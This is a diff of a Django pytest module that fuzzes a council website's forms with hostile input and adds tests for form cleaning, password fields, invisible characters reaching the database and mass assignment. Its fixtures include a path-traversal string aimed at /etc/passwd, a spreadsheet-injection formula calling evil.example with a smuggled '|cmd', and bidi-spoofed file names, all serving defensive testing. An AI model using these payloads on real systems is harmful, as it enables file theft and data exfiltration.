@@ -5,20 +5,24 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
+from http.cookies import SimpleCookie
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
 from django import forms
-from django.db import transaction
+from django.db import connection, transaction
 from django.db.models import Model
 from django.forms.formsets import BaseFormSet
 from django.test import Client
 from django.urls import reverse
 
+import cpconf.urls  # noqa: F401 - brings in every form
 from families.models import Family
-from govuk.forms import GovukForm, GovukModelForm, clean_text
+from govuk.bound_fields import GovukBoundField
+from govuk.forms import GovukBaseForm, GovukForm, GovukModelForm
+from govuk.formsets import GovukFormSet
 from govuk.spreadsheets import harmless
 from tests.access_table import table
 from tests.cpconf.page_rules import leads_away
@@ -38,6 +42,8 @@ PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
 FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
 UNSEEN = "a\x00b\x08c\u202egnp.exe\u200b\u2066\ufeff\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
 LONG = "x" * 120_000
+# Signs that are never meant in a text.
+UNMEANT = "\u00ad\u200b\u200e\u202e\u2060\u2066\ufeff\u3164"
 HOSTILE = {
     "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
     "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
@@ -94,12 +100,15 @@ def _flat(choices: Any) -> Iterator[tuple[Any, Any]]:
             yield value, label
 
 
-def undone(act: Any) -> Any:
-    before = transaction.savepoint()
+def undone(act: Any, *clients: Client) -> Any:
+    """Return what ``act`` answers, undoing what it did to the database and to the cookies of ``clients``."""
+    before, cookies = transaction.savepoint(), [SimpleCookie(client.cookies) for client in clients]
     try:
         return act()
     finally:
         transaction.savepoint_rollback(before)
+        for client, kept in zip(clients, cookies, strict=True):
+            client.cookies = kept
 
 
 def clients(world: SimpleNamespace) -> dict[str, Client]:
@@ -169,7 +178,7 @@ def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site,
         data: dict[str, Any] = {}
         for form in on_page:
             data |= filled(form, text)
-        answers = undone(lambda c=client, a=address, d=data: send(c, a, d))
+        answers = undone(lambda c=client, a=address, d=data: send(c, a, d), client)
         sent += 1
         found += [(name, fault) for answer in answers for fault in wrong_with(answer)]
     assert (found, sent > 60, Family.objects.exists()) == ([], True, True)
@@ -216,9 +225,65 @@ def test_every_form_class_validates_hostile_text_without_crashing(text):
     assert tried > 15
 
 
-def test_control_characters_are_removed_and_every_script_kept():
-    assert clean_text("a\x00b\x1b[31m\r\nc") == "ab[31m\nc"
-    assert clean_text("שלום عربى Łódź 👩‍👩‍👧") == "שלום عربى Łódź 👩‍👩‍👧"
+def test_every_form_of_the_site_is_one_that_cleans():
+    """Ours all are; the sign-in library's own are never shown."""
+    ours = [
+        kind for kind in subclasses(forms.BaseForm) if not kind.__module__.startswith(("django.", "allauth.", "tests."))
+    ]
+    odd = [kind for kind in ours if not issubclass(kind, GovukBaseForm)]
+    odd += [kind for kind in ours if kind.bound_field_class is not GovukBoundField and kind not in odd]
+    odd += [
+        kind
+        for kind in subclasses(BaseFormSet)
+        if not kind.__module__.startswith(("django.", "allauth.", "tests.")) and not issubclass(kind, GovukFormSet)
+    ]
+    assert ([kind.__qualname__ for kind in odd], len(ours) > 100) == ([], True)
+
+
+def test_every_password_has_a_name_that_keeps_it_as_typed():
+    named = {
+        name
+        for kind in subclasses(GovukBaseForm)
+        for name, field in getattr(kind, "base_fields", {}).items()
+        if isinstance(field.widget, forms.PasswordInput)
+    }
+    assert ([name for name in named if "password" not in name], bool(named)) == ([], True)
+
+
+def texts_in(value: Any) -> Iterator[str]:
+    """Return every text of a statement's parameters, those of JSON columns included."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, Mapping):
+        yield from (text for pair in value.items() for part in pair for text in texts_in(part))
+    elif isinstance(value, list | tuple | set):
+        yield from (text for part in value for text in texts_in(part))
+    elif hasattr(value, "obj"):
+        yield from texts_in(value.obj)
+
+
+def test_nothing_invisible_reaches_the_database_from_any_form(forms_of_the_site):
+    """Submits each form of each page, and reads every value that a statement carries."""
+    carried, arrived = set(), set()
+
+    def reads(name: str) -> Any:
+        def read(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
+            told = "".join(texts_in(params))
+            if MARK in told:
+                arrived.add(name)
+            if set(told) & set(UNMEANT) or any(f"\\u{ord(sign):04x}" in told for sign in UNMEANT):
+                carried.add((name, sql[:60]))
+            return execute(sql, params, many, context)
+
+        return read
+
+    for name, address, client, on_page in forms_of_the_site:
+        data: dict[str, Any] = {}
+        for form in on_page:
+            data |= filled(form, f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example")
+        with connection.execute_wrapper(reads(name)):
+            undone(lambda c=client, a=address, d=data: c.post(a, d), client)
+    assert (carried, len(arrived) > 40) == (set(), True)
 
 
 # Mass assignment
@@ -242,11 +307,9 @@ def test_fields_that_a_form_does_not_show_are_ignored(forms_of_the_site, world):
     for name, address, client, on_page in forms_of_the_site:
         shown = {bound.html_name for form in on_page for bound in form}
         extra = {key: value for key, value in planted.items() if key not in shown}
-        before = transaction.savepoint()
         was = rows(kept)
-        client.post(address, extra)
-        found += [(name, change) for change in planted_in(was, rows(kept), extra)]
-        transaction.savepoint_rollback(before)
+        now = undone(lambda c=client, a=address, e=extra: (c.post(a, e), rows(kept))[1], client)
+        found += [(name, change) for change in planted_in(was, now, extra)]
     assert found == []
 
 
@@ -284,7 +347,7 @@ def test_hidden_fields_with_numbers_of_another_council_are_refused(world, forms_
         data: dict[str, Any] = {}
         for form in on_page:
             data |= {key: ["987654321"] for key in filled(form, "x")}
-        answer = undone(lambda c=client, a=address, d=data: c.post(a, d))
+        answer = undone(lambda c=client, a=address, d=data: c.post(a, d), client)
         if answer.status_code >= 500:
             found.append(name)
     assert found == []
